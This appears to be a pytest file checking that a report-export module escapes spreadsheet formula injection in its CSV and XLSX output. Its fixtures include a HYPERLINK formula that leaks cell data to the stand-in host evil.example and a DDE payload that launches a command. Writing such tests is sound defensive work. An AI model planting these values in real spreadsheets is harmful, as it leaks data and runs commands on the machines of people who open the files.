"""storage.export: a CSV cell a spreadsheet would run as a formula is neutralised (OWASP)."""

from __future__ import annotations

import csv
import sqlite3
from pathlib import Path

from storage.export import _cells, export
from storage.store import Store
from tests.storage.conftest import REAL_FILES, ingest


def test_csv_cells_that_start_a_formula_are_neutralised(tmp_path: Path) -> None:
    db = tmp_path / "nianbao.db"
    with Store(db) as store:
        ingest(store, REAL_FILES[0])
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"年报")'
    with sqlite3.connect(db) as conn:  # as a page could have it: agency and notes are page text
        conn.execute("update reports set agency = ?", [hostile])
    conn.close()
    with Store(db) as store:
        export(store, "csv", str(tmp_path / "out"), None, None)
    with (tmp_path / "out" / "cells.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert {r["agency"] for r in rows} == {"'" + hostile}
    with (tmp_path / "out" / "findings.csv").open(encoding="utf-8", newline="") as fh:
        assert {r["agency"] for r in csv.DictReader(fh)} <= {"'" + hostile}
    # Every start OWASP names; numbers, written as numbers or as text, stay numbers.
    row = ["@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+cmd", "\t=1", "\r=1", "-5", -5, "+3.5", 2.0, "年报", None]
    assert _cells(row) == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'+1+1", "'-1+cmd", "'\t=1", "'\r=1", "-5", -5, "+3.5",
                           2.0, "年报", None]  # fmt: skip


def test_the_xlsx_workbook_holds_the_csv_tables_with_text_never_a_formula(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    db = tmp_path / "nianbao.db"
    with Store(db) as store:
        ingest(store, REAL_FILES[0])
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"年报")\x07'  # a formula, and a control XML cannot hold
    with sqlite3.connect(db) as conn:
        conn.execute("update reports set agency = ?", [hostile])
    conn.close()
    with Store(db) as store:
        export(store, "csv", str(tmp_path / "csv"), None, None)
        (written,) = export(store, "xlsx", str(tmp_path / "out"), None, None)
    assert written == str(tmp_path / "out" / "nianbao.xlsx")
    book = load_workbook(written)
    assert book.sheetnames == ["cells", "findings"]
    for name in ("cells", "findings"):
        sheet = [list(r) for r in book[name].iter_rows(values_only=True)]
        with (tmp_path / "csv" / f"{name}.csv").open(encoding="utf-8-sig", newline="") as fh:
            table = list(csv.reader(fh))
        assert len(sheet) == len(table) and sheet[0] == table[0]
        if name == "cells":  # numbers are numbers, and each row matches the CSV's
            assert all(isinstance(r[7], int | float) for r in sheet[1:])
            assert [str(r[7]) for r in sheet[1:]] == [r[7] for r in table[1:]]
        assert {r[1] for r in sheet[1:]} <= {hostile[:-1]}  # text as it was, minus the control; no formula
    assert all(c.data_type == "s" for c in next(book["cells"].iter_cols(min_col=2, max_col=2, min_row=2)))
